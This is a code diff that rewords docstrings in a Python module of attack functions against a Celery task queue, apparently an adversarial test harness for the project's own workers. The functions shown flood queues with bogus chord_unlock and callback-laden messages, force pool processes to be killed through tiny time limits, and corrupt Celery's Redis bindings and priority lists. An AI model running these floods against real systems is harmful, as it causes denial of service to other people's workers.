@@ -1,4 +1,4 @@
-"""Attacks by somebody who may write to the queues."""
+"""Attacks by a client that may write to the queues."""
 
 import base64
 import itertools
@@ -21,20 +21,20 @@ _TASKS = {AGGS: "tasks.process_agg", CLOCK: "tasks.publish_snapshot", REFERENCE:
 
 
 def chord_unlock(target: Target) -> None:
-    """Have workers wait for the ends of groups that do not exist."""
+    """Make workers wait for groups that do not exist."""
     body = [[uuid4().hex, _signature("tasks.publish_snapshot")], {"interval": 0, "max_retries": None}, {}]
     _flood(target, (_message(AGGS, body, task="celery.chord_unlock") for _ in itertools.count()))
 
 
 def callbacks(target: Target) -> None:
-    """Have hundreds of snapshots follow on each message of each queue."""
+    """Send messages each of which calls hundreds of snapshots, to each queue."""
     followers = [_signature("tasks.publish_snapshot")] * 150
     queues = itertools.cycle(_TASKS)
     _flood(target, (_message(next(queues), [[], {}, {"callbacks": followers}]) for _ in itertools.count()))
 
 
 def time_limits(target: Target) -> None:
-    """Have the processes of pools killed in the middle of their work, by limits and by followers' limits."""
+    """Get pool processes killed while they work, by time limits of calls and of their followers."""
     limited = _signature("tasks.publish_snapshot", time_limit=0.001, headers={"timelimit": 5})
     queues = itertools.cycle(_TASKS)
     kinds: Any = itertools.cycle(({"timelimit": [0.001, None]}, {"timelimit": 5}, {}))
@@ -62,9 +62,9 @@ def symbols(target: Target) -> None:
 
 
 def other_types(target: Target) -> None:
-    """Put other things where Celery notes its queues and has its later priorities, and keep its lock.
+    """Put values of other types where Celery keeps bindings and lists of lower priorities, and hold its lock.
 
-    Not in the place of a queue, nor of what is held: there bars wait until somebody deletes it, and are not lost.
+    Not in place of a queue or of `unacked`: bars would wait until an operator deletes the value, but not be lost.
     """
     lists = [f"{queue}\x06\x16{priority}" for queue in _TASKS for priority in (3, 6, 9)]
     exchanges = (*_TASKS, "celeryev", "celery.pidbox", "reply.celery.pidbox")
